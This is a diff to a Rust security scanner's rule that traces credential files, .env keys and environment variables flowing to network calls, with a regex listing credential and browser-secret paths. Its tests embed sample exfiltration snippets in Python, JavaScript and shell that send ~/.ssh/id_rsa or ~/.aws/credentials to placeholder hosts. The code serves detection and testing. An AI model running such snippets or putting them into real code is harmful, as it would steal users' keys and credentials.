@@ -25,12 +25,20 @@ crate::rules::rule_doc! {
     ///   `http.request`, PowerShell's `Invoke-WebRequest`/`WebClient`, and DNS
     ///   lookups built from data.
     ///
+    /// Scripts are read as syntax trees (see `security::syntax`): a call
+    /// written over several lines is one statement, and values are followed
+    /// through assignments, `with … as`, `for … in`, destructuring, calls of
+    /// functions that send their parameter and of functions that return a
+    /// source. A name bound inside a function is followed only there.
+    ///
     /// A source reaching a sink on one statement, or through a variable, is
     /// a flow: critical for credential files and the whole environment,
     /// whatever the host. A secret-named variable sent as an
     /// `Authorization` header to a host that is not suspicious is how APIs
-    /// are called, and not reported; sent elsewhere to a suspicious host it is
-    /// critical, to an unknown one medium. A credential file read with no
+    /// are called, and not reported (so is one passed as a login: `.login(`,
+    /// `password=`); sent elsewhere to a suspicious host it is critical, to
+    /// an unknown one medium. A key read from the project's `.env` is judged
+    /// the same way, but the file sent whole to an unknown host is high. A credential file read with no
     /// flow is medium (high, with low confidence, when the same code uses
     /// the network); the project's `.env` or the environment read with no
     /// flow is low, since that is how code loads the API key it needs. The
@@ -46,7 +54,7 @@ crate::rules::rule_doc! {
 
 pattern!(
     pub(crate) CRED_FILE,
-    r"(~|\$HOME|\$\{HOME\}|%USERPROFILE%|\$env:USERPROFILE|expanduser\(\s*['\x22]~|homedir\(\)|Path\.home\(\))?[/\\'\x22, ]*\.ssh[/\\]+(id_[A-Za-z0-9_]+|identity|\*)([^.\w]|$)|\.ssh/?['\x22]?\s*$|\bid_(rsa|ed25519|ecdsa|dsa)([^.\w]|$)|\.aws[/\\]+credentials|\.netrc\b|\.npmrc\b|\.pypirc\b|\.docker[/\\]+config\.json|\.kube[/\\]+config|\.gnupg\b|\.git-credentials|\.config[/\\]+gh[/\\]+hosts|application_default_credentials|\bLogin Data\b|\bCookies\b[/\\'\x22]|Local State\b|\.mozilla[/\\]+firefox|Google[/\\]+Chrome|BraveSoftware|Library[/\\]+Keychains|\bsecurity\s+(find|dump)-(generic|internet)-password|\bdump-keychain\b|/etc/shadow\b|wallet\.dat|\.bash_history|\.zsh_history|\.claude[/\\]+\.credentials|\.codex[/\\]+auth\.json|(^|[\s'\x22/(=])\.env(\.local|\.production)?\b"
+    r"(~|\$HOME|\$\{HOME\}|%USERPROFILE%|\$env:USERPROFILE|expanduser\(\s*['\x22]~|homedir\(\)|Path\.home\(\))?[/\\'\x22, ]*\.ssh(?:[/\\]+|['\x22]\s*,\s*['\x22])(id_[A-Za-z0-9_]+|identity|\*)([^.\w]|$)|\.ssh/?['\x22]?\s*$|\bid_(rsa|ed25519|ecdsa|dsa)([^.\w]|$)|\.aws(?:[/\\]+|['\x22]\s*,\s*['\x22])credentials|\.netrc\b|\.npmrc\b|\.pypirc\b|\.docker(?:[/\\]+|['\x22]\s*,\s*['\x22])config\.json|\.kube(?:[/\\]+|['\x22]\s*,\s*['\x22])config|\.gnupg\b|\.git-credentials|\.config(?:[/\\]+|['\x22]\s*,\s*['\x22])gh(?:[/\\]+|['\x22]\s*,\s*['\x22])hosts|application_default_credentials|\bLogin Data\b|\bCookies\b[/\\'\x22]|Local State\b|\.mozilla(?:[/\\]+|['\x22]\s*,\s*['\x22])firefox|Google(?:[/\\]+|['\x22]\s*,\s*['\x22])Chrome|BraveSoftware|Library(?:[/\\]+|['\x22]\s*,\s*['\x22])Keychains|\bsecurity\s+(find|dump)-(generic|internet)-password|\bdump-keychain\b|/etc/shadow\b|wallet\.dat|\.bash_history|\.zsh_history|\.claude(?:[/\\]+|['\x22]\s*,\s*['\x22])\.credentials|\.codex(?:[/\\]+|['\x22]\s*,\s*['\x22])auth\.json|(^|[\s'\x22/(=])\.env(\.local|\.production)?\b"
 );
 pattern!(
     ENV_DUMP_SHELL,
@@ -73,7 +81,7 @@ pattern!(
 );
 pattern!(
     HEADER,
-    r"(-H|--header|headers?\s*[=:]|Authorization|Bearer|X-Api-Key|-u\s|auth\s*=|--user\b)"
+    r"(-H|--header|headers?\s*[=:]|Authorization|Bearer|X-Api-Key|-u\s|auth\s*=|--user\b|\.login\s*\(|\.auth(enticate)?\s*\(|\b(password|passwd)\s*=)"
 );
 pattern!(
     ASSIGN,
@@ -97,6 +105,9 @@ pattern!(
 enum Source {
     Workspace,
     SecretVariable,
+    /// The project's `.env`: where code keeps the API keys it calls its
+    /// APIs with.
+    DotEnv,
     Environment,
     CredentialFile,
 }
@@ -106,6 +117,7 @@ impl Source {
         match self {
             Source::Workspace => "workspace files",
             Source::SecretVariable => "a secret-named variable",
+            Source::DotEnv => "the project's .env file",
             Source::Environment => "the whole environment",
             Source::CredentialFile => "a credential file",
         }
@@ -114,7 +126,12 @@ impl Source {
 
 fn source_in(line: &str, lang: Lang) -> Option<(Source, regex::Match<'_>)> {
     if let Some(m) = CRED_FILE.find(line) {
-        return Some((Source::CredentialFile, m));
+        let source = if DOTENV.is_match(m.as_str().trim()) {
+            Source::DotEnv
+        } else {
+            Source::CredentialFile
+        };
+        return Some((source, m));
     }
     let env_dump = match lang {
         Lang::Python | Lang::JavaScript => &*ENV_DUMP_CODE,
@@ -133,15 +150,267 @@ fn mentions(line: &str, variable: &str) -> bool {
     line.match_indices(variable).any(|(at, _)| {
         let before = line[..at].chars().next_back();
         let after = line[at + variable.len()..].chars().next();
+        // `f"…"`, `r'…'`: a string's prefix, not a variable (`"$f"` is one).
+        let prefix = after.is_some_and(|c| c == '"' || c == '\'')
+            && !before.is_some_and(|c| c == '$' || c == '{');
         !before.is_some_and(|c| c.is_alphanumeric() || c == '_')
             && !after.is_some_and(|c| c.is_alphanumeric() || c == '_')
+            && !prefix
     })
+}
+
+/// The body of the innermost function around `at`, where a name bound at
+/// `at` is visible. Shell variables are global unless declared `local`, so
+/// shell functions give no scope.
+fn scope_at(code: &Code, at: usize) -> Option<std::ops::Range<usize>> {
+    code.facts
+        .functions
+        .iter()
+        .filter(|f| !f.positional && f.body.contains(&at))
+        .min_by_key(|f| f.body.len())
+        .map(|f| f.body.clone())
+}
+
+/// A name (or a file) holding a source: the name, what it holds, where
+/// that came from, and where the name is visible (`None`: everywhere).
+type Taint = (String, Source, String, Option<std::ops::Range<usize>>);
+
+/// A function that sends what it is given (`def send(d): requests.post(u,
+/// data=d)`): a call of it is a sink.
+struct SinkFunction<'a> {
+    name: &'a str,
+    /// Where the definition is: a mention there is not a call.
+    defined: std::ops::Range<usize>,
+    /// The body's statement that sends: its host and headers count.
+    sends: &'a str,
+    sink: &'a str,
+}
+
+/// The functions of `code` that pass a parameter (or a local value built
+/// from one) to a sink.
+fn sink_functions<'a>(code: &Code<'a>) -> Vec<SinkFunction<'a>> {
+    let mut out = Vec::new();
+    for function in &code.facts.functions {
+        let Some(body) = code.text.get(function.body.clone()) else {
+            continue;
+        };
+        let mut carried: Vec<&str> = function.params.iter().map(String::as_str).collect();
+        let carries = |line: &str, carried: &[&str]| {
+            (function.positional && POSITIONAL.is_match(line))
+                || carried.iter().any(|name| mentions(line, name))
+        };
+        let mut found = None;
+        for (range, line) in statements(body) {
+            let absolute = function.body.start + range.start..function.body.start + range.end;
+            for binding in &code.facts.bindings {
+                if absolute.contains(&binding.at)
+                    && code
+                        .text
+                        .get(binding.value.clone())
+                        .is_some_and(|value| carries(value, &carried))
+                {
+                    carried.push(&binding.name);
+                }
+            }
+            if let Some(sink) = SINK.find(line)
+                && carries(line, &carried)
+            {
+                found = Some((line, sink.as_str()));
+                break;
+            }
+        }
+        let Some((sends, sink)) = found else {
+            continue;
+        };
+        out.push(SinkFunction {
+            name: &function.name,
+            defined: function.header.start..function.body.end,
+            sends,
+            sink,
+        });
+    }
+    out
+}
+
+pattern!(POSITIONAL, r"\$\{?[1-9@*]");
+
+/// A function that returns what a source gives (`def creds(): return
+/// open(".aws/credentials").read()`): a call of it is that source.
+struct SourceFunction<'a> {
+    name: &'a str,
+    defined: std::ops::Range<usize>,
+    source: Source,
+}
+
+pattern!(
+    RETURNS,
+    r"^\s*(return|yield|echo|printf|cat|Write-Output)\b"
+);
+
+/// Where something was found on a line: its offset and text.
+#[derive(Clone, Copy)]
+struct Found<'a> {
+    start: usize,
+    text: &'a str,
+}
+
+impl<'a> Found<'a> {
+    fn start(&self) -> usize {
+        self.start
+    }
+
+    fn len(&self) -> usize {
+        self.text.len()
+    }
+
+    fn as_str(&self) -> &'a str {
+        self.text
+    }
+}
+
+impl<'a> From<regex::Match<'a>> for Found<'a> {
+    fn from(m: regex::Match<'a>) -> Found<'a> {
+        Found {
+            start: m.start(),
+            text: m.as_str(),
+        }
+    }
+}
+
+/// A call of the function `name` on `line`: `name(` in Python and
+/// JavaScript, `name` as a command in shells. (Searched for as text, not
+/// compiled into a pattern per function: compiling is what costs.)
+fn find_call<'a>(line: &'a str, name: &str, lang: Lang) -> Option<Found<'a>> {
+    if name.is_empty() {
+        return None;
+    }
+    let command = !matches!(lang, Lang::Python | Lang::JavaScript);
+    let lowered;
+    let haystack = if lang == Lang::PowerShell {
+        lowered = (line.to_ascii_lowercase(), name.to_ascii_lowercase());
+        (&lowered.0[..], &lowered.1[..])
+    } else {
+        (line, name)
+    };
+    haystack.0.match_indices(haystack.1).find_map(|(at, _)| {
+        let before = line[..at].chars().next_back();
+        let rest = &line[at + name.len()..];
+        let after = rest.chars().next();
+        let called = if command {
+            before.is_none_or(|c| c.is_whitespace() || ";|&(`{".contains(c))
+                && after.is_none_or(|c| c.is_whitespace() || ";)|".contains(c))
+        } else {
+            !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$')
+                && rest.trim_start().starts_with('(')
+        };
+        called.then(|| Found {
+            start: at,
+            text: &line[at..at + name.len()],
+        })
+    })
+}
+
+/// `var.method` on `line`, for a variable holding a connection.
+fn method_of<'a>(line: &'a str, var: &str) -> Option<Found<'a>> {
+    line.match_indices(var).find_map(|(at, _)| {
+        let before = line[..at].chars().next_back();
+        let rest = line[at + var.len()..].strip_prefix('.')?;
+        let method = rest
+            .find(|c: char| !(c.is_alphanumeric() || c == '_'))
+            .unwrap_or(rest.len());
+        (method > 0 && !before.is_some_and(|c| c.is_alphanumeric() || c == '_')).then(|| Found {
+            start: at,
+            text: &line[at..at + var.len() + 1 + method],
+        })
+    })
+}
+
+/// The functions of `code` whose result holds a source.
+fn source_functions<'a>(code: &Code<'a>) -> Vec<SourceFunction<'a>> {
+    let mut out = Vec::new();
+    for function in &code.facts.functions {
+        let Some(body) = code.text.get(function.body.clone()) else {
+            continue;
+        };
+        let mut carried: Vec<(&str, Source)> = Vec::new();
+        let source_of = |text: &str, carried: &[(&str, Source)]| {
+            source_in(text, code.lang).map(|(s, _)| s).or_else(|| {
+                carried
+                    .iter()
+                    .filter(|(name, _)| mentions(text, name))
+                    .map(|(_, s)| *s)
+                    .max()
+            })
+        };
+        let mut found = None;
+        for (range, line) in statements(body) {
+            let absolute = function.body.start + range.start..function.body.start + range.end;
+            for binding in &code.facts.bindings {
+                if absolute.contains(&binding.at)
+                    && let Some(source) = code
+                        .text
+                        .get(binding.value.clone())
+                        .and_then(|value| source_of(value, &carried))
+                {
+                    carried.push((&binding.name, source));
+                }
+            }
+            if RETURNS.is_match(line)
+                && let Some(source) = source_of(line, &carried)
+                && source >= Source::DotEnv
+            {
+                found = Some(source);
+                break;
+            }
+        }
+        if let Some(source) = found {
+            out.push(SourceFunction {
+                name: &function.name,
+                defined: function.header.start..function.body.end,
+                source,
+            });
+        }
+    }
+    out
+}
+
+/// The names a statement gives values to, with the values: from the syntax
+/// tree where the code was parsed, and from the assignment pattern, which
+/// also reads languages without a grammar.
+fn assignments<'a>(
+    code: &Code<'a>,
+    range: &std::ops::Range<usize>,
+    line: &'a str,
+) -> Vec<(&'a str, &'a str)> {
+    let mut out: Vec<(&str, &str)> = code
+        .facts
+        .bindings
+        .iter()
+        .filter(|b| range.contains(&b.at))
+        .filter_map(|b| Some((b.name.as_str(), code.text.get(b.value.clone())?)))
+        .collect();
+    let pattern = ASSIGN
+        .captures(line.trim_end())
+        .map(|caps| (caps.get(2), caps.get(4)))
+        .or_else(|| {
+            FOR_IN
+                .captures(line.trim_end())
+                .map(|caps| (caps.get(2), caps.get(4)))
+        });
+    if let Some((Some(name), Some(value))) = pattern
+        && !out.iter().any(|(n, _)| *n == name.as_str())
+    {
+        out.push((name.as_str(), value.as_str()));
+    }
+    out
 }
 
 pub(crate) fn check(code: Code, hits: &mut Vec<Hit>) {
     let lines = statements(code.text);
+    let functions = sink_functions(&code);
+    let sources = source_functions(&code);
     // Variables holding a source, found by following assignments in order.
-    let mut tainted: Vec<(String, Source, String)> = Vec::new();
+    let mut tainted: Vec<Taint> = Vec::new();
     let mut reported: BTreeSet<usize> = BTreeSet::new();
     let mut loose_source: Option<(Source, std::ops::Range<usize>)> = None;
     let mut any_sink = false;
@@ -149,36 +418,42 @@ pub(crate) fn check(code: Code, hits: &mut Vec<Hit>) {
     // methods send what they are given.
     let mut sink_vars: Vec<String> = Vec::new();
     for (range, line) in &lines {
-        let direct = source_in(line, code.lang);
+        let direct = source_in(line, code.lang)
+            .map(|(s, m)| (s, Found::from(m)))
+            .or_else(|| {
+                // A call of a function that returns a source is that source.
+                sources.iter().find_map(|f| {
+                    if f.defined.contains(&range.start) {
+                        return None;
+                    }
+                    find_call(line, f.name, code.lang).map(|m| (f.source, m))
+                })
+            });
+        let visible = |scope: &Option<std::ops::Range<usize>>| {
+            scope.as_ref().is_none_or(|s| s.contains(&range.start))
+        };
         let via = tainted
             .iter()
-            .filter(|(name, ..)| mentions(line, name))
-            .max_by_key(|(_, source, _)| *source)
+            .filter(|(name, _, _, scope)| visible(scope) && mentions(line, name))
+            .max_by_key(|(_, source, ..)| *source)
             .cloned();
         // Files a source is written to carry it on (`tar czf /tmp/x.tgz ~/.ssh`).
         let carried = direct
             .as_ref()
             .map(|(s, m)| (*s, m.as_str().to_owned()))
-            .or_else(|| via.as_ref().map(|(n, s, _)| (*s, n.clone())));
+            .or_else(|| via.as_ref().map(|(n, s, ..)| (*s, n.clone())));
         if let Some((source, origin)) = &carried {
             for file in FILE_TOKEN.find_iter(line) {
                 let file = file.as_str();
-                if !tainted.iter().any(|(n, ..)| n == file) && !origin.contains(file) {
-                    tainted.push((file.to_owned(), *source, origin.clone()));
+                // The source's own path is not a copy of it, but an
+                // archive of the workspace is (`tar czf /tmp/p.tgz .`).
+                let own_path = *source != Source::Workspace && origin.contains(file);
+                if !tainted.iter().any(|(n, ..)| n == file) && !own_path {
+                    tainted.push((file.to_owned(), *source, origin.clone(), None));
                 }
             }
         }
-        let assignment = ASSIGN
-            .captures(line.trim_end())
-            .map(|caps| (caps.get(2), caps.get(4)))
-            .or_else(|| {
-                FOR_IN
-                    .captures(line.trim_end())
-                    .map(|caps| (caps.get(2), caps.get(4)))
-            });
-        if let Some((Some(name), Some(value))) = assignment {
-            let name = name.as_str();
-            let value = value.as_str();
+        for (name, value) in assignments(&code, range, line) {
             if SINK.is_match(value) {
                 sink_vars.push(name.to_owned());
             }
@@ -187,37 +462,41 @@ pub(crate) fn check(code: Code, hits: &mut Vec<Hit>) {
                 .or_else(|| {
                     tainted
                         .iter()
-                        .filter(|(n, ..)| n != name && mentions(value, n))
-                        .max_by_key(|(_, s, _)| *s)
-                        .map(|(n, s, _)| (*s, n.clone()))
+                        .filter(|(n, _, _, scope)| {
+                            n != name && visible(scope) && mentions(value, n)
+                        })
+                        .max_by_key(|(_, s, ..)| *s)
+                        .map(|(n, s, ..)| (*s, n.clone()))
                 });
             if let Some((source, origin)) = from
                 && !SINK.is_match(value)
             {
-                tainted.push((name.to_owned(), source, origin));
+                tainted.push((
+                    name.to_owned(),
+                    source,
+                    origin,
+                    scope_at(&code, range.start),
+                ));
             }
         }
-        let sink = SINK.find(line).or_else(|| {
-            sink_vars
-                .iter()
-                .find_map(|v| {
-                    line.find(&format!("{v}."))
-                        .filter(|_| mentions(line, v))
-                        .map(|_| v)
-                })
-                .and_then(|v| {
-                    regex::Regex::new(&super::ascii_boundaries(&format!(
-                        r"\b{}\.\w+",
-                        regex::escape(v)
-                    )))
-                    .ok()?
-                    .find(line)
-                })
+        // A call of a function that sends its argument.
+        let called = functions.iter().find_map(|f| {
+            let at = range.start;
+            if f.defined.contains(&at) {
+                return None;
+            }
+            find_call(line, f.name, code.lang).map(|m| (f, m))
         });
+        let sink = SINK
+            .find(line)
+            .map(Found::from)
+            .or_else(|| sink_vars.iter().find_map(|v| method_of(line, v)));
+        let through = if sink.is_none() { called } else { None };
+        let sink = sink.or(through.as_ref().map(|(_, m)| *m));
         any_sink |= sink.is_some();
         let Some(sink) = sink else {
             if let Some((source, m)) = direct
-                && source >= Source::Environment
+                && source >= Source::DotEnv
                 && loose_source.is_none()
             {
                 let at = code.base + range.start + m.start();
@@ -226,11 +505,11 @@ pub(crate) fn check(code: Code, hits: &mut Vec<Hit>) {
             continue;
         };
         let flow = match (direct, via) {
-            (Some((source, m)), Some((name, via_source, _))) if via_source > source => {
+            (Some((source, m)), Some((name, via_source, ..))) if via_source > source => {
                 Some((via_source, format!("${name}"), m.start()))
             }
             (Some((source, m)), _) => Some((source, m.as_str().trim().to_owned(), m.start())),
-            (None, Some((name, source, origin))) => {
+            (None, Some((name, source, origin, _))) => {
                 Some((source, format!("{origin} -> {name}"), sink.start()))
             }
             (None, None) => None,
@@ -238,8 +517,11 @@ pub(crate) fn check(code: Code, hits: &mut Vec<Hit>) {
         let Some((source, origin, _)) = flow else {
             continue;
         };
-        let (reputation, url) =
-            worst_url(line).map_or((Reputation::Unknown, None), |(r, u)| (r, Some(u)));
+        // Sent through a function: where its body sends it decides.
+        let sends = through.as_ref().map_or(*line, |(f, _)| f.sends);
+        let (reputation, url) = worst_url(line)
+            .or_else(|| worst_url(sends))
+            .map_or((Reputation::Unknown, None), |(r, u)| (r, Some(u)));
         let (threat, confidence) = match (source, reputation) {
             (Source::CredentialFile | Source::Environment, _) => {
                 (Threat::Critical, Confidence::High)
@@ -247,8 +529,16 @@ pub(crate) fn check(code: Code, hits: &mut Vec<Hit>) {
             (Source::SecretVariable, Reputation::Suspicious) => {
                 (Threat::Critical, Confidence::Medium)
             }
-            (Source::SecretVariable, _) if HEADER.is_match(line) => continue,
+            (Source::SecretVariable, _) if HEADER.is_match(line) || HEADER.is_match(sends) => {
+                continue;
+            }
             (Source::SecretVariable, Reputation::Known) => continue,
+            // A key read from `.env` and sent as the API's credentials is
+            // how the API is called; the whole file sent elsewhere is not.
+            (Source::DotEnv, Reputation::Suspicious) => (Threat::Critical, Confidence::High),
+            (Source::DotEnv, _) if HEADER.is_match(line) || HEADER.is_match(sends) => continue,
+            (Source::DotEnv, Reputation::Known) => continue,
+            (Source::DotEnv, Reputation::Unknown) => (Threat::High, Confidence::Medium),
             (Source::SecretVariable, Reputation::Unknown) => (Threat::Medium, Confidence::Low),
             (Source::Workspace, Reputation::Known) => continue,
             (Source::Workspace, Reputation::Unknown) => (Threat::High, Confidence::Low),
@@ -267,10 +557,14 @@ pub(crate) fn check(code: Code, hits: &mut Vec<Hit>) {
                 at..at + sink.len(),
                 format!("sends {} to {destination}", source.label()),
             )
-            .flow(format!(
-                "{origin} -> {} {destination}",
-                sink.as_str().trim()
-            )),
+            .flow(match &through {
+                Some((f, _)) => format!(
+                    "{origin} -> {}() -> {} {destination}",
+                    f.name,
+                    f.sink.trim()
+                ),
+                None => format!("{origin} -> {} {destination}", sink.as_str().trim()),
+            }),
         );
     }
     if reported.is_empty()
@@ -279,8 +573,7 @@ pub(crate) fn check(code: Code, hits: &mut Vec<Hit>) {
         // A project's own `.env`, or the environment, read by code that
         // calls an API is how API keys are loaded: a reviewer may want to
         // know (`--all`), but it changes no verdict unless it flows out.
-        let matched = code.text[range.start - code.base..range.end - code.base].trim();
-        let dotenv = source == Source::CredentialFile && DOTENV.is_match(matched);
+        let dotenv = source == Source::DotEnv;
         let (threat, confidence) = if dotenv || source == Source::Environment {
             (Threat::Low, Confidence::Low)
         } else if any_sink {
@@ -359,16 +652,59 @@ mod tests {
 
     fn found(text: &str, lang: Lang) -> Vec<(Threat, Option<String>)> {
         let mut hits = Vec::new();
-        check(
-            Code {
-                text,
-                base: 0,
-                lang,
-                depth: 0,
-            },
-            &mut hits,
-        );
+        check(Code::plain(text, 0, lang, 0), &mut hits);
         hits.into_iter().map(|h| (h.threat, h.flow)).collect()
+    }
+
+    /// As the scan reads a script: parsed first.
+    fn found_parsed(text: &str, lang: Lang) -> Vec<(Threat, Option<String>)> {
+        let prepared = crate::security::syntax::prepare(text, lang);
+        let mut hits = Vec::new();
+        check(Code::parsed(&prepared, 0, lang, 0), &mut hits);
+        hits.into_iter().map(|h| (h.threat, h.flow)).collect()
+    }
+
+    #[test]
+    fn flows_a_line_based_reading_misses() {
+        // One call over several lines, and a file opened `with … as`.
+        let py = "with open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials')) as f:\n    data = f.read()\nrequests.post(\n    'https://c.example.net/u',\n    data=data,\n)\n";
+        assert!(
+            found(py, Lang::Python)
+                .iter()
+                .all(|(t, _)| *t < Threat::Critical)
+        );
+        let hits = found_parsed(py, Lang::Python);
+        assert_eq!(hits.len(), 1, "{hits:?}");
+        assert_eq!(hits[0].0, Threat::Critical);
+        // Through a function that sends its parameter, and one that
+        // returns a source.
+        let js = "const send = async (p) => {\n  await fetch('https://x.example.top/c', { method: 'POST', body: p });\n};\nfunction key() {\n  return fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\n}\nsend(key());\n";
+        let hits = found_parsed(js, Lang::JavaScript);
+        assert_eq!(hits.len(), 1, "{hits:?}");
+        assert!(
+            hits[0].1.as_deref().unwrap().contains("send() -> fetch("),
+            "{hits:?}"
+        );
+        let sh = "push() {\n  curl -s --data-binary \"$1\" https://sync.example.top/u\n}\nkeys=$(cat ~/.ssh/id_rsa |\n  base64)\npush \"$keys\"\n";
+        assert_eq!(found_parsed(sh, Lang::Shell)[0].0, Threat::Critical);
+    }
+
+    #[test]
+    fn credentials_used_to_log_in_are_not_sent_away() {
+        // A key from the project's .env sent as the API's own credentials.
+        let py = "def load():\n    with open('.env') as f:\n        return f.read().split('=')[1]\nkey = load()\nrequests.post(\n    'https://api.example.com/v1',\n    headers={'Authorization': f'Bearer {key}'},\n)\n";
+        let hits = found_parsed(py, Lang::Python);
+        assert!(hits.iter().all(|(t, _)| *t == Threat::Low), "{hits:?}");
+        let db = "conn = psycopg2.connect(\n    host=os.environ['PGHOST'],\n    password=os.environ['PGPASSWORD'],\n)\n";
+        assert!(found_parsed(db, Lang::Python).is_empty());
+        // A name bound inside one function is not the same name elsewhere,
+        // and `f"…"` is a string, not the variable `f`.
+        let scoped = "def read():\n    f = open(os.path.expanduser('~/.ssh/id_rsa'))\n    return None\nresponse = requests.get('https://example.org/')\nprint(f\"{response.status_code}\")\n";
+        assert!(
+            found_parsed(scoped, Lang::Python)
+                .iter()
+                .all(|(t, _)| *t < Threat::Critical)
+        );
     }
 
     #[test]
